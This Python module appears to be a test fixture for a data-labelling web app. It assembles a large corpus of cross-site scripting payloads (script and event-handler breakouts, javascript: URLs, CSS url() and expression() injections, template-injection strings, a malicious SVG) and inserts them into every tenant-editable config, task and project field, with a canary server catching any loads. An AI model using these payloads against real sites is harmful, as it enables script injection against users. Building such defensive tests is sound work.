"""Markup, styles and names that try to run or load something, and the fields that a tenant can put them into."""

from __future__ import annotations

import json
from dataclasses import dataclass
from typing import Any
from xml.sax.saxutils import quoteattr

#: Every element of ours carries this attribute: found in a page, it was taken for markup.
MARK = "data-injected"
RUN = "window.ran=1,alert(1)"


@dataclass(frozen=True)
class Corpus:
    """The payloads; ``canary`` is the address of a server that nobody may ever ask."""

    canary: str

    @property
    def markup(self) -> str:
        """All ways out of a text that we know, in one text. What swallows the rest comes last."""
        canary = self.canary
        return " ".join(
            [
                f'<img {MARK} src="{canary}/img" onerror="{RUN}">',
                f"<script {MARK}>{RUN}</script>",
                f"<script {MARK} src={canary}/script></script>",
                f'"><svg {MARK} onload="{RUN}">',
                f"'><svg {MARK} onload='{RUN}'></svg>",
                f"`><img {MARK} src=x onerror=`{RUN}`>",
                f'</title></textarea></style></script></noscript></template></xmp><img {MARK} src=x onerror="{RUN}">',
                f'<iframe {MARK} srcdoc="<script>parent.{RUN}</script><img src={canary}/srcdoc>"></iframe>',
                f'<iframe {MARK} src="javascript:{RUN}"></iframe><object {MARK} data="{canary}/object"></object>',
                f'<a {MARK} href="javascript:{RUN}">x</a><form {MARK} action="{canary}/form"><button>x</button></form>',
                f'<meta {MARK} http-equiv=refresh content="0;url={canary}/meta"><base {MARK} href="{canary}/base/">',
                f'<link {MARK} rel=stylesheet href="{canary}/link"><style {MARK}>@import "{canary}/import";</style>',
                f'<video {MARK} src=x onerror="{RUN}"></video><details {MARK} open ontoggle="{RUN}"></details>',
                f'<input {MARK} autofocus onfocus="{RUN}"><x {MARK} tabindex=1 onfocus="{RUN}" id=ran></x>',
                f'<math><mtext><table><mglyph><style><!--</style><img {MARK} title="--&gt;&lt;img src=x&gt;">',
                f"&lt;img {MARK} src=x onerror={RUN}&gt; %3Cimg%20{MARK}%20src=x%20onerror={RUN}%3E",
                f"\\u003cimg {MARK} src=x onerror={RUN}\\u003e \\x3cimg {MARK}\\x3e +ADw-script+AD4-",
                f"javascript:{RUN} data:text/html,<script>{RUN}</script>",
                f"{{{{constructor.constructor('{RUN}')()}}}} ${{{RUN}}} <%= {RUN} %> \u2028\u2029\u202e\u0000"[:-1],
                "]]> --> */ <!--<script>",
            ]
        )

    @property
    def markdown(self) -> str:
        """Markdown that would load, run or lead somewhere, between what a guideline has."""
        canary = self.canary
        return "\n\n".join(
            [
                "# Guideline",
                f"![picture]({canary}/markdown) ![from](//{canary.removeprefix('http://')}/markdown-2) ![x][pic]",
                f"[run](javascript:{RUN}) [run](JaVaScRiPt:{RUN} 'a\"onclick={RUN}')",
                f"[run](data:text/html,{RUN}) <javascript:{RUN}>",
                f'[title](https://example.org "\\"onmouseover={RUN} {MARK}=1")',
                f"`<img {MARK} src=x onerror={RUN}>`",
                f"    <script {MARK}>{RUN}</script>",
                f"```<svg {MARK} onload={RUN}>\n<svg {MARK} onload={RUN}>\n```",
                f"> <iframe {MARK} srcdoc=x>",
                f"[pic]: {canary}/markdown-3",
                self.markup,
            ]
        )

    @property
    def line(self) -> str:
        """For fields that take little, such as titles."""
        return f'</title></script>"\'><img {MARK} src="{self.canary}/line" onerror="{RUN}"><!--<script>'

    @property
    def file_name(self) -> str:
        """A name that a file can have."""
        return f"\"'><img {MARK} src=x onerror={RUN}>;filename=a.html"

    @property
    def style(self) -> str:
        """Declarations that load, break out, or would run in some browser or other."""
        address = self.canary
        return (
            f"background:url({address}/style);list-style-image:image-set('{address}/set' 1x);"
            f"cursor:url({address}/cursor),auto;--own:url({address}/own);border-image:var(--own) 1;"
            f"--esc:\\75rl({address}/esc);content:var(--esc);mask-image:var(--none,url({address}/fallback));"
            f"behavior:url({address}/behavior);-moz-binding:url({address}/binding);width:expression({RUN});"
            f"}}</style><script {MARK}>{RUN}</script>@import '{address}/import';*{{background:url({address}/star)}}"
        )

    @property
    def color(self) -> str:
        """In the place of a colour."""
        return f"url({self.canary}/color)"

    def text_config(self) -> str:
        """A label config with the payloads in every attribute of the tags for texts, known and unknown."""
        words = dict.fromkeys(("value", "alias", "hint", "html", "size", "groupCanContain", "showalias"), self.markup)
        label = _tag("Label", **words, background=self.color, selectedColor=self.color, hotkey=self.line,
                     aliasStyle=self.style, showAlias="true", maxUsages="9")  # fmt: skip
        choice = _tag("Choice", **words, color=self.color, style=self.style, hotkey=self.line)
        text = {"toName": "text", "requiredMessage": self.markup, "whenLabelValue": self.markup}
        return "".join(
            [
                f"<View {_attributes(style=self.style, className=self.markup, title=self.markup)}>",
                _tag("Header", value=self.markup, style=self.style, name="head", size="1"),
                _tag("Text", name="text", value="$text", highlightColor=self.color),
                _around("Labels", label, name="label", strokeColor=self.color, fillColor=self.color, **text),
                _around("Choices", choice, name="choice", required="true", **text),
                _around("Choices", choice.replace('hotkey="', 'data-hotkey="'), name="menu", layout="select", **text),
                _tag("Choices", name="listed", value="$listed", toName="text"),
                _tag("Labels", name="more", value="$listed", toName="text"),
                _tag("HyperText", name="html", value="$html", inline="true", clickableLinks="true"),
                _tag("Paragraphs", name="talk", value="$talk", nameKey="author", textKey="text"),
                _tag("TextArea", name="note", toName="text", placeholder=self.markup, value=self.markup),
                _tag("Table", name="table", value="$html"),
                _tag("Style", value=self.style),
                _tag("Script", name="script", src=f"{self.canary}/script-tag", value=RUN),
                "</View>",
            ]
        )

    def text_task(self) -> dict[str, Any]:
        """A task with the payloads in its data, its keys, its meta, its annotation and its prediction."""
        words, line = self.markup, self.line
        item = {"value": line, "html": words, "hint": words, "alias": words, "style": self.style, "color": self.color}
        item["background"] = self.color
        data = {
            "text": words, "html": words, words: words, "listed": [item, {"value": words, "children": [item]}],
            "talk": [{"author": words, "text": words}], "__proto__": {"ran": 1},
        }  # fmt: skip
        region = {
            "id": line, "from_name": "label", "to_name": "text", "type": "labels", "meta": {"text": [words]},
            "score": 0.5, "value": {"start": 0, "end": 9, "text": words, "labels": [words, line]},
        }  # fmt: skip
        results = [
            region,
            {**region, "id": "r2", "from_name": words, "to_name": words, "type": words},
            {**region, "id": "r3", "from_name": "choice", "type": "choices", "value": {"choices": [words]}},
            {"type": "relation", "from_id": line, "to_id": "r2", "labels": [words], "direction": words},
        ]
        return {
            "data": data,
            "meta": {words: words},
            "annotations": [{"result": results, "comments": [{"text": words}], "unique_id": self.line}],
            "predictions": [{"result": results, "model_version": words, "score": 0.5}],
        }

    def image_config(self) -> str:
        """The same for pictures."""
        label = _tag("Label", value=self.line, background=self.color, alias=self.markup, hint=self.markup)
        colors = {"strokeColor": self.color, "fillColor": self.color}
        size = {"width": self.style, "maxWidth": self.style, "gridColor": self.color, "grid": "true"}
        return "".join(
            [
                f"<View {_attributes(style=self.style)}>",
                _tag("Image", name="image", value="$image", crosshair="true", **size),
                _around("RectangleLabels", label, name="box", toName="image", **colors),
                "</View>",
            ]
        )

    def box(self) -> list[dict[str, Any]]:
        """A result for a picture."""
        value = {
            "x": 10,
            "y": 10,
            "width": 50,
            "height": 50,
            "rotation": 0,
            "rectanglelabels": [self.line, self.markup],
        }
        item = {"id": self.line, "from_name": "box", "to_name": "image", "type": "rectanglelabels", "value": value}
        return [{**item, "original_width": 1, "original_height": 1, "meta": {"text": [self.markup]}}]

    def described(self) -> dict[str, Any]:
        """What can be said of a project."""
        return {"title": self.line, "description": self.markup, "expert_instruction": self.markup,
                "show_instruction": True, "color": self.color, "model_version": self.line}  # fmt: skip

    def broken_file(self) -> bytes:
        """Tasks that cannot be imported; what is said about them repeats their words."""
        return json.dumps([{self.markup: self.markup}, {"text": {"a": self.markup}}, {"data": self.markup}]).encode()

    def drawing(self) -> bytes:
        """An SVG file that is a page."""
        spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        return (
            f'<svg {spaces} width="40" height="40" onload="{RUN}"><script>{RUN}</script>'
            f'<script href="{self.canary}/svg-script"/><image href="{self.canary}/svg"/><foreignObject>'
            f'<iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:parent.{RUN}"/></foreignObject>'
            f'<a xlink:href="javascript:{RUN}"><rect width="40" height="40"/></a></svg>'
        ).encode()


def _attributes(**values: str) -> str:
    return " ".join(f"{name.replace('_', '-')}={quoteattr(_xml(value))}" for name, value in values.items())


def _tag(tag: str, **values: str) -> str:
    return f"<{tag} {_attributes(**values)}/>"


def _around(tag: str, inside: str, **values: str) -> str:
    return f"<{tag} {_attributes(**values)}>{inside}</{tag}>"


def _xml(text: str) -> str:
    """Without what XML cannot hold."""
    return "".join(character for character in text if character >= " ")
